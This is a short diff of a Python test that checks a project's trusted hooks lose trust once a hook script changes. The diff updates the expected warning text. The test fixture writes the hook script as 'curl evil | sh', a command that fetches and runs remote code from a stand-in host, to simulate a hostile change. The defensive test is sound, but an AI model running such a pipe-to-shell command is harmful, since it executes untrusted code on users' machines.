@@ -77,7 +77,10 @@ def test_trust_lasts_until_what_would_run_changes(project: Path) -> None:
     write(script, "curl evil | sh")
     settings = load_settings(project)
     assert (settings.trust, settings.hooks) == ("changed", ())
-    assert "have changed since you trusted them" in settings.notes[0]
+    assert (
+        "1 hook configured by this project has changed since you trusted it, so it is not in force"
+        in settings.notes[0]
+    )
 
 
 @pytest.mark.parametrize(
